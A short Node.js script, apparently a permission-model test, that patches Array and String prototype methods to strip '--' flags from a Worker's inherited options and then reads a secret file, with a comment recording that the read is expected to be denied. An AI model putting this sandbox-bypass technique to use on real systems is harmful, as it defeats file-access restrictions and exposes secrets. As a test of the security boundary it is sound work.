// Array functions that Node might use for the flags of a worker drop the first two.
// denied: file:read secret.txt
const lab = JSON.parse(process.argv[2]);
const { Worker } = require('node:worker_threads');
const { push, slice, concat, join, filter, map } = Array.prototype;
const drop = (list) => (typeof list?.[0] === 'string' && list[0].startsWith('--') ? [] : list);
for (const [name, real] of Object.entries({ push, slice, concat, filter, map })) Array.prototype[name] = function (...args) { return drop(real.apply(this, args)); };
Array.prototype.join = function (...args) { return join.apply(drop(this), args); };
String.prototype.split = () => [];
Array.prototype[Symbol.iterator] = function* () { for (let i = 0; i < this.length; i++) if (!String(this[i]).includes('register')) yield this[i]; };
new Worker(`console.log(require('node:fs').readFileSync(${JSON.stringify(lab.secret)}, 'utf8'))`, { eval: true }).on('error', () => {});
